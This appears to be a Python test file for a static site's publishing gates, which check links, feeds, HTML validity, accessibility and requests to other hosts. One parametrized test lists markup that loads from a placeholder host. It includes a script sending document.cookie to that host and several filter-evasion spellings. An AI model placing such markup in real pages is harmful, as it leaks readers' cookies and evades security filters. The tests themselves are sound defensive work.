"""The quality gates, one by one: each finds what it must, names the file, the rule and the fix.

The gates pass on the real site: tests/test_publish_git.py publishes content/
through every gate. Here each gate meets broken input: a copy of the real
production build with one thing broken, or a small hand-written site.
Tests that need Java + vnu.jar or chromium + axe-core skip when the machine
lacks them (scripts/setup --test installs them; CI runs them all).
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from conftest import ROOT

sys.path.insert(0, str(ROOT / "scripts"))
from publishing import browsergate, feeds, gates, htmlgate, links  # noqa: E402
from publishing.site import Site  # noqa: E402

SITE_URL = "https://marques-communautes.github.io"  # publishconf.py's default SITEURL
ARTICLE = "marketing-2-0-vu-par-yves-duron"
ANCHOR = "contribution-c-20090227-emmanuel"

needs_vnu = pytest.mark.skipif(bool(htmlgate.tools_missing()),
                               reason=f"missing {', '.join(htmlgate.tools_missing())}: scripts/setup --test installs it")
needs_browser = pytest.mark.skipif(
    bool(browsergate.tools_missing()),
    reason=f"missing {', '.join(browsergate.tools_missing())}: scripts/setup --test installs it")


@pytest.fixture
def real_build(site_production, tmp_path) -> Site:
    """A copy of the real production build that a test may break."""
    copy = tmp_path / "site"
    shutil.copytree(site_production.output, copy)
    return Site(copy, SITE_URL)


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


# ----------------------------------------------------------------- links and feeds (no extra tool)

@pytest.mark.build
def test_links_and_feeds_pass_on_the_real_build(real_build):
    for gate in (links.run, feeds.run):
        found, summary = gate(real_build)
        assert found == [], "\n".join(map(str, found))
        assert summary


@pytest.mark.build
def test_a_removed_anchor_is_reported_everywhere_it_is_linked(real_build):
    article = real_build.root / ARTICLE / "index.html"
    article.write_text(article.read_text(encoding="utf-8").replace(f'id="{ANCHOR}"', 'id="renamed"'), encoding="utf-8")
    found, _ = links.run(real_build)
    assert found, "the broken anchor went unnoticed"
    assert all(f'has no element with id="{ANCHOR}"' in p.message for p in found), "\n".join(map(str, found))
    files = {p.file for p in found}
    # the permalink on the page itself, its JSON-LD, the community page, and the feeds that carry it
    assert {f"{ARTICLE}/index.html", "communaute/index.html", "flux/communaute.atom.xml"} <= files, files
    assert any(p.field.startswith("JSON-LD") for p in found)
    assert all("Correction :" in str(p) for p in found)


@pytest.mark.build
def test_a_page_missing_from_the_build_is_reported_with_every_page_that_links_it(real_build):
    shutil.rmtree(real_build.root / "suivre")
    found, _ = links.run(real_build)
    assert found and all(p.message == "suivre/index.html is not in the build" for p in found)
    assert {"index.html", "sitemap.xml"} <= {p.file for p in found}


@pytest.mark.build
def test_the_feeds_gate_reads_feeds_as_readers_do_and_checks_self_links(real_build):
    root = real_build.root
    rss = root / "flux" / "site.rss.xml"
    rss.write_text(rss.read_text(encoding="utf-8")[:-40], encoding="utf-8")  # truncated: not well-formed
    (root / "flux" / "site.json").write_text("{not json", encoding="utf-8")
    atom = root / "flux" / "communaute.atom.xml"
    atom.write_text(atom.read_text(encoding="utf-8").replace("+01:00</updated>", "</updated>", 1), encoding="utf-8")
    found, summary = feeds.run(real_build)
    by_file = {}
    for problem in found:
        by_file.setdefault(problem.file, []).append(problem)
    assert set(by_file) == {"flux/site.rss.xml", "flux/site.json", "flux/communaute.atom.xml"}, found
    assert "readers cannot parse it" in by_file["flux/site.rss.xml"][0].message
    assert by_file["flux/site.rss.xml"][0].field == "feedparser"
    assert "readers cannot parse it" in by_file["flux/site.json"][0].message
    assert "is not a valid date" in " ".join(p.message for p in by_file["flux/communaute.atom.xml"])
    assert "37 feeds" in summary or "feeds" in summary


@pytest.mark.build
def test_a_feed_whose_self_link_is_not_its_address_fails(site_production):
    """Built for the default SITEURL, checked as if published elsewhere: every rel=self is wrong."""
    found, _ = feeds.run(Site(site_production.output, "https://blog.example.org"))
    assert found
    assert all("self" in p.message.lower() or "feed_url" in p.message for p in found), found
    assert any("SelfDoesntMatchLocation" in p.message for p in found)


def test_a_build_without_feeds_fails_the_feeds_gate(tmp_path):
    write(tmp_path, {"index.html": "<!DOCTYPE html><title>x</title>"})
    found, _ = feeds.run(Site(tmp_path, SITE_URL))
    assert [p.message for p in found] == ["the build has no feed"]


# ----------------------------------------------------------------- a gate that cannot run fails

def test_a_missing_tool_fails_its_gate_instead_of_skipping_it(tmp_path, monkeypatch):
    write(tmp_path, {"index.html": "<!DOCTYPE html><title>x</title>"})
    monkeypatch.setattr(htmlgate, "VNU_JAR", tmp_path / "no-vnu.jar")
    monkeypatch.setattr(browsergate, "AXE_JS", tmp_path / "no-axe.min.js")
    results = gates.run_gates(Site(tmp_path, SITE_URL), ("html", "a11y", "hosts"))
    assert [(r.name, r.ok) for r in results] == [("html", False), ("a11y", False), ("hosts", False)]
    assert "no-vnu.jar" in str(results[0].problems[0]) and "scripts/setup --test" in str(results[0].problems[0])
    assert "no-axe.min.js" in str(results[1].problems[0])
    report = gates.report(results, Site(tmp_path, SITE_URL))
    assert "FAIL  html" in report and "3 gate(s) failed: html, a11y, hosts" in report


def test_a_crashing_gate_fails(tmp_path, monkeypatch):
    def boom(site):
        raise RuntimeError("bug")
    monkeypatch.setattr(links, "run", boom)
    (result,) = gates.run_gates(Site(tmp_path, SITE_URL), ("links",))
    assert not result.ok and "RuntimeError('bug')" in str(result.problems[0])


# ----------------------------------------------------------------- html: the Nu Html Checker

@needs_vnu
def test_the_html_gate_reports_vnu_errors_and_warnings_with_file_and_line(tmp_path):
    good = ('<!DOCTYPE html>\n<html lang="fr">\n<head><meta charset="utf-8"><title>Bien</title></head>\n'
            "<body><main><h1>Bien</h1><p>Un texte en français, valide.</p></main></body>\n</html>\n")
    bad = ('<!DOCTYPE html>\n<html lang="fr">\n<head><meta charset="utf-8"><title>Mal</title></head>\n<body>\n'
           '<p><div>bloc dans un paragraphe</div></p>\n<img src="x.png">\n'
           "<section><p>Une section sans titre.</p></section>\n</body>\n</html>\n")
    write(tmp_path, {"index.html": good, "casse/index.html": bad, "theme/css/style.css": "p { colr: red; }\n",
                     "flux/site.atom.xml": "<feed/>", "sitemap.xml": "<urlset/>"})
    running = htmlgate.start(Site(tmp_path, SITE_URL))
    assert running.summary == "2 pages and 1 CSS/SVG file(s)", "XML files are not HTML: vnu must not see them"
    found = htmlgate.finish(running)
    files = {p.file for p in found}
    assert files == {"casse/index.html", "theme/css/style.css"}, found
    fields = [p.field for p in found if p.file == "casse/index.html"]
    assert "vnu error, line 5" in fields and "vnu error, line 6" in fields
    assert "vnu warning, line 7" in fields, "a warning fails the gate too"
    messages = " ".join(p.message for p in found)
    assert "alt" in messages and "colr" in messages
    assert all(p.fix for p in found)


# ----------------------------------------------------------------- a11y and hosts in chromium

HOSTILE = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Page fautive</title>
<style>.pale { color: #bbb; background: #fff; } h1:hover { background: url(https://img.example.org/bg.png); }</style>
<link rel="stylesheet" href="/mauvaise.css"></head>
<body><main><h1>Page fautive</h1>
<p class="pale">Texte trop pâle pour être lu.</p>
<img src="https://cdn.example.net/logo.png">
<button id="b" type="button">Envoyer</button>
<script>document.getElementById('b').addEventListener('click', () => fetch('https://tracker.example.com/hit'));</script>
</main></body></html>"""
CLEAN = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Page propre</title>
<link rel="stylesheet" href="/style.css"></head>
<body><main><h1>Page propre</h1><p>Un texte lisible.</p><img src="/images/p.svg" alt="Un carré"></main></body></html>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'


@needs_browser
def test_the_browser_gates_find_violations_and_requests_to_other_hosts(tmp_path):
    write(tmp_path, {"mauvaise/index.html": HOSTILE, "propre/index.html": CLEAN,
                     "mauvaise.css": '@import "https://fonts.example.com/font.css";\n',
                     "style.css": "body { color: #111; background: #fff url(images/p.svg); }", "images/p.svg": SVG})
    site = Site(tmp_path, "https://blog.example.org")
    a11y, hosts, summary = browsergate.run(site, ("mauvaise/", "propre/", "absente/"))
    assert "2 pages in 2 colour scheme(s) (light, dark)" in summary
    # a11y: the page with problems, in both colour schemes; the clean page has none
    assert {p.file for p in a11y} == {"mauvaise/index.html", "absente/index.html"}, a11y
    rules = {p.field.split(" (")[0] for p in a11y if p.file == "mauvaise/index.html"}
    assert {"axe image-alt", "axe color-contrast"} <= rules, rules
    assert any("dark scheme" in p.field for p in a11y) and any("light scheme" in p.field for p in a11y)
    contrast = next(p for p in a11y if p.field.startswith("axe color-contrast"))
    assert "pale" in contrast.value and "dequeuniversity.com" in contrast.fix
    missing = next(p for p in a11y if p.file == "absente/index.html")
    assert "the build has none" in missing.message
    # hosts: the image in the HTML, found without a browser and in it, and the fetch made on click
    values = {p.value for p in hosts}
    assert "https://cdn.example.net/logo.png" in values
    assert "https://tracker.example.com/hit" in values, "a request made when the reader clicks is seen too"
    assert {p.file for p in hosts} == {"mauvaise/index.html", "mauvaise.css"}
    assert any(p.field == "loaded without a click" for p in hosts)
    # what CSS would load, even only on :hover, or from an @import
    assert ("CSS url() in the page", "https://img.example.org/bg.png") in {(p.field, p.value) for p in hosts}
    assert ("mauvaise.css", "https://fonts.example.com/font.css") in {(p.file, p.value) for p in hosts}


@needs_browser
def test_the_browser_sees_the_build_at_its_real_address_with_its_content_types(tmp_path):
    """The site's host is answered from the build: no request leaves the machine, stylesheets apply."""
    write(tmp_path, {"index.html": CLEAN.replace('href="/style.css"', 'href="https://blog.example.org/style.css"'),
                     "style.css": "h1 { color: rgb(1, 2, 3); }", "images/p.svg": SVG})
    site = Site(tmp_path, "https://blog.example.org")
    harness = browsergate.harness

    def inspect(page):
        return page.evaluate("() => getComputedStyle(document.querySelector('h1')).color")

    with harness.browser() as chromium:
        browser = browsergate._Browser(chromium, browsergate._SiteRoutes(site), "light")
        visit = harness.visit(browser, "https://blog.example.org/", allowed_hosts={"blog.example.org"},
                              inspect=inspect, interact=False)
    assert visit.inspection == "rgb(1, 2, 3)", "the stylesheet was served (with text/css) and applied"
    assert visit.third_party == [] and len(visit.requests) == 3, visit.summary()


@pytest.mark.parametrize("markup", [
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
    '<svg><use href="https://evil.example/sprite.svg#i"/></svg>',
    '<svg><filter><feImage href="https://evil.example/f.png"/></filter></svg>',
    '<img src="/local.png" srcset="/local-2x.png 2x, https://evil.example/3x.png 3x" alt="">',
    '<video poster="https://evil.example/poster.jpg"></video>',
    '<object data="https://evil.example/x.swf"></object>',
    '<p style="background: url(https://evil.example/bg.png)">x</p>',
    '<style>@import "https://evil.example/font.css";</style>',
    '<link rel="preload" href="https://evil.example/x.js" as="script">',
    '<link rel="prefetch" href="https://evil.example/next.html">',
    '<link rel="modulepreload" href="https://evil.example/m.js">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
    '<a href="/" ping="https://evil.example/track">x</a>',
    "<script>fetch('https://evil.example/?' + document.cookie)</script>",
    '<iframe srcdoc="&lt;img src=&quot;https://evil.example/i.png&quot;&gt;"></iframe>',
    # Spellings and places a regex or html.parser missed (issue 25, point 7):
    '<img src="https://evil.example/url(x).png" alt="">',                       # "url(" inside an address
    '<img alt=">" src="https://evil.example/alt.png">',                         # a ">" in an earlier attribute
    '<!-- --!><img src="https://evil.example/comment.png" alt=""> -->',         # a comment closed by "--!>"
    '<noscript><img src="https://evil.example/noscript.png" alt=""></noscript>',  # for readers without scripts
    '<div><template shadowrootmode="open"><img src="https://evil.example/s.png" alt=""></template></div>',
    '<img src="//evil.example/x.png" alt="">',
    '<img src="https://ｅｖｉｌ.example/fullwidth.png" alt="">',
    '<img src="https://evil%2Eexample/percent.png" alt="">',
    '<img src="https:\\\\evil.example\\backslash.png" alt="">',
    '<img src="HTTPS://EVIL.EXAMPLE./upper-dot.png" alt="">',
    '<p style="background:url(ht\\74ps://evil.example/escaped.png)">x</p>',
    '<style>/* x */ a { background: image-set("https://evil.example/set.png" 1x); }</style>',
    '<style>@import url(//evil.example/i.css);</style>',
    '<svg><set attributeName="href" to="https://evil.example/set.png"/></svg>',
    '<svg><image href="/ok.png"><animate attributeName="xlink:href" values="/ok.png;https://evil.example/a.png"/>'
    '</image></svg>',
    '<svg><rect fill="url(https://evil.example/p.svg#p)" width="1" height="1"/></svg>',
    '<svg><use xlink:href="https://evil.example/sprite.svg#i"/></svg>',
    '<link rel="icon" href="https://evil.example/favicon.ico">',
])
def test_the_hosts_gate_reads_every_way_a_page_loads_from_another_host(tmp_path, markup):
    for name in ("index.html", "autre/page/index.html"):
        page = tmp_path / name
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(f"<!DOCTYPE html><html lang=fr><head><title>x</title></head><body>{markup if 'autre' in name else ''}"
                        "</body></html>", encoding="utf-8")
    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
    assert [p.file for p in problems] == ["autre/page/index.html"] and "evil.example" in str(problems[0])


def test_the_hosts_gate_reads_standalone_svg_files(tmp_path):
    (tmp_path / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/>'
                                       "</svg>", encoding="utf-8")
    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
    assert [p.file for p in problems] == ["logo.svg"]


@pytest.mark.parametrize("name, text", [
    ("theme/css/style.css", "a { background: url(ht\\74ps://evil.example/escaped.png); }"),
    ("theme/css/style.css", '/* url(/ok.png) */ @import "https://evil.example/font.css";'),
    ("images/anime.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="/ok.png"><set attributeName="href" '
                         'to="https://evil.example/set.png"/></image></svg>'),
    ("extra/page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="//evil.example/x.png"/></body>'
                         "</html>"),
])
def test_the_hosts_gate_reads_every_file_a_browser_renders(tmp_path, name, text):
    write(tmp_path, {name: text, "index.html": "<!DOCTYPE html><title>x</title>"})
    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
    assert [(p.file, "evil.example" in p.message) for p in problems] == [(name, True)], problems


def test_the_sites_own_host_in_any_spelling_is_not_another_host(tmp_path):
    markup = ('<img src="https://BLOG.example.org./a.png" alt=""><img src="//blog.example.org/b.png" alt="">'
              '<img src="https:\\\\blog.example.org\\c.png" alt=""><img src="/d.png" alt="">'
              '<a href="https://other.example/">un lien se clique</a><link rel="alternate" href="https://o.example/f">')
    write(tmp_path, {"index.html": f"<!DOCTYPE html><html lang=fr><head><title>x</title></head><body>{markup}"
                                   "</body></html>"})
    assert browsergate.static_third_party(Site(tmp_path, "https://blog.example.org")) == []
